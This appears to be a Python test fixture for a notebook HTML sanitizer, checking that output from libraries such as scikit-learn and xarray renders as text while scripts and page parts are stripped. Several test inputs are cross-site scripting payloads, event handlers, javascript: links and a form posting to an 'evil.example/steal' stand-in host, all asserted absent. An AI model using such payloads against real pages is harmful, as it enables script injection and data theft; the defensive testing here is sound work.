"""HTML of other libraries: it stays in its place and order, and brings no code and no page parts."""

from __future__ import annotations

from typing import Final

from tests.notebooks.situations import Situation, between_prints, html, visible_output

SKLEARN: Final = """<style>#sk-container-id-1 {color: black;}#sk-container-id-1 pre{padding: 0;}</style><div id="sk-container-id-1" class="sk-top-container"><div class="sk-text-repr-fallback"><pre>LogisticRegression(C=0.5)</pre><b>In a Jupyter environment, please rerun this cell to show the HTML representation or trust the notebook. <br />On GitHub, the HTML representation is unable to render, please try loading this page with nbviewer.org.</b></div><div class="sk-container" hidden><div class="sk-item"><input class="sk-toggleable__control sk-hidden--visually" id="sk-estimator-id-1" type="checkbox" checked><label for="sk-estimator-id-1">LogisticRegression</label></div></div></div>"""
XARRAY: Final = """<div><svg style="position: absolute; width: 0; height: 0; overflow: hidden">
<defs>
<symbol id="icon-database" viewBox="0 0 32 32">
<path d="M16 0c-8.837 0-16 2.239-16 5v4c0 2.761 7.163 5 16 5"></path>
</symbol>
</defs>
</svg>
<style>/* CSS stylesheet for displaying xarray objects in notebooks. */
:root {--xr-font-color0: black;}
</style><pre class='xr-text-repr-fallback'>&lt;xarray.Dataset&gt; Size: 96B
Dimensions:  (x: 2, y: 3)
Data variables:
    rainfall  (x, y) float64 48B 1.0 2.0</pre><div class='xr-wrap' style='display:none'><div class='xr-header'><div class='xr-obj-type'>xarray.Dataset</div></div></div></div>"""
PARTS_OF_A_PAGE: Final = """<!DOCTYPE html><html lang="fr"><head><title>Another title</title>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="alert(1)"><header>head-words</header><main id="report"><h1 id="totals">big-words</h1>
<nav>nav-words</nav><section>section-words</section></main><footer>foot-words</footer></body></html>"""
FORM: Final = """<form action="https://evil.example/steal"><label>Name of buyer
<input type="text" value="typed-value" autofocus onfocus="alert(1)"></label>
<select><option selected>first-choice</option></select><textarea>area-words</textarea>
<button onclick="go()">Press me</button></form><p>after-the-form</p>"""
LISTS: Final = """<dl><dt>term-1</dt><dd>meaning-1</dd></dl><ol start="4"><li>fourth<ul><li>nested</li>
</ul></li></ol><figure><figcaption>caption-words</figcaption></figure><blockquote>quoted</blockquote>
<pre>  two
    lines</pre><p>H<sub>2</sub>O <abbr title="a">abbr</abbr> <mark>mark</mark> <del>del</del>
<font color="red">font</font> <center>center</center> <progress value="3" max="9">3 of 9</progress></p>"""

SITUATIONS: Final[tuple[Situation, ...]] = (
    visible_output(
        "headings inside HTML",
        html("<h1>top-words</h1><p>text-1</p><h4>deep-words</h4><p>text-2</p>"),
        visible=("top-words", "text-1", "deep-words", "text-2"),
    ),
    visible_output(
        "a script between two texts",
        html(
            "<p>text-before</p><script>document.write('written')</script><p>text-after</p>"
            "<script src='https://evil.example/x.js'></script>"
        ),
        visible=("text-before", "text-after"),
        absent=("written", "evil.example"),
    ),
    visible_output(
        "details that are closed",
        html("<details><summary>the-summary</summary><p>the-details</p></details>"),
        visible=("the-summary", "the-details"),
    ),
    visible_output(
        "tags that are not closed",
        html("</div></section></main></body><p>open-words<b>bold-words<table><tr><td>cell-words"),
        visible=("open-words", "bold-words", "cell-words"),
    ),
    visible_output(
        "a whole page",
        html(PARTS_OF_A_PAGE),
        visible=("head-words", "big-words", "nav-words", "section-words", "foot-words"),
        absent=("Another title", "evil.example"),
    ),
    visible_output(
        "a form",
        html(FORM),
        visible=("Name of buyer", "after-the-form"),
        absent=("evil.example", "alert(1)"),
        undrawn=None,
    ),
    visible_output(
        "lists, quotations and small elements",
        html(LISTS),
        visible=(
            *("term-1", "meaning-1", "fourth", "nested", "caption-words", "quoted", "two", "lines"),
            *("H2O", "abbr", "mark", "del", "font", "center"),
        ),
        exact=("  two\n    lines",),
    ),
    visible_output(
        "elements that their author hides",
        html(
            '<p>public-words</p><div style="display:none">secret-1</div>'
            '<p hidden>secret-2</p><span style="color: red; visibility: hidden">secret-3</span>'
            "<!-- secret-4 --><template>secret-5</template><p>last-words</p>"
        ),
        visible=("public-words", "last-words"),
        absent=("secret-1", "secret-2", "secret-3", "secret-4", "secret-5"),
    ),
    visible_output(
        "handlers and dangerous addresses",
        html(
            '<p onclick="alert(1)" style="background:url(\'https://evil.example/p.png\')">safe-1'
            '</p><a href="javascript:alert(2)">safe-2</a><a href="data:text/html,x">safe-3</a>'
            '<img src=x onerror="alert(3)" alt="safe-4"><svg onload=alert(4)></svg>'
            '<math><mtext><img src=x onerror=alert(5)></mtext></math><a href="//evil.example">s5</a>'
        ),
        visible=("safe-1", "safe-2", "safe-3"),
        absent=("alert(",),
        undrawn=None,
    ),
    visible_output(
        "elements that swallow what follows",
        html("<p>words-1</p><plaintext>words-2"),
        html("<textarea>words-3"),
        html("<!-- a comment that never ends <p>words-4</p>"),
        html("<p>words-5</p><style>p{}"),
        visible=("words-1", "words-5"),
        undrawn=None,
    ),
    visible_output(
        "an estimator of scikit-learn",
        html(SKLEARN, "LogisticRegression(C=0.5)"),
        visible=("LogisticRegression(C=0.5)",),
        absent=("#sk-container", "color: black"),
    ),
    visible_output(
        "a dataset of xarray",
        html(XARRAY, "<xarray.Dataset> Size: 96B\nDimensions:  (x: 2, y: 3)"),
        visible=("<xarray.Dataset> Size: 96B", "rainfall"),
        absent=("--xr-font", "CSS stylesheet"),
        once=("rainfall",),
    ),
    between_prints(
        "a style sheet only",
        html("<style>.container { width: 100% !important; }</style>"),
        absent=("!important", "IPython.core"),
        place="empty",
    ),
    visible_output(
        "entities of spaCy",
        html(
            '<span class="tex2jax_ignore"><div class="entities" style="line-height: 2.5">'
            '<mark class="entity" style="background: #7aecec;">Lima<span style="font-size: 0.8em">'
            "PLACE</span></mark> grows</div></span>"
        ),
        visible=("Lima", "PLACE", "grows"),
    ),
    visible_output(
        "MathML",
        html("<math><mfrac><mi>num</mi><mi>den</mi></mfrac></math><p>after-math</p>"),
        visible=("after-math",),
        on_page=("num", "den", "after-math"),
    ),
    visible_output(
        "HTML that is nested too deeply",
        html(f"{'<div>' * 3000}deep-words &lt; &amp;{'</div>' * 3000}<p>next-words</p>"),
        visible=("deep-words < &", "next-words"),
    ),
    visible_output(
        "a text in HTML without tags",
        html("12 &lt; 13 &amp; 14 &gt; 13, café"),
        visible=("12 < 13 & 14 > 13, café",),
        absent=("&lt;", "&amp;"),
    ),
    visible_output(
        "ANSI colors of Databricks",
        html(
            '<style scoped>\n  .ansiout {\n    display: block;\n  }\n</style>\n<div class="ansiout">'
            "Out[4]: [(&#39;paid&#39;, 3)]</div>"
        ),
        visible=("Out[4]: [('paid', 3)]",),
        absent=("ansiout", "display: block"),
    ),
)
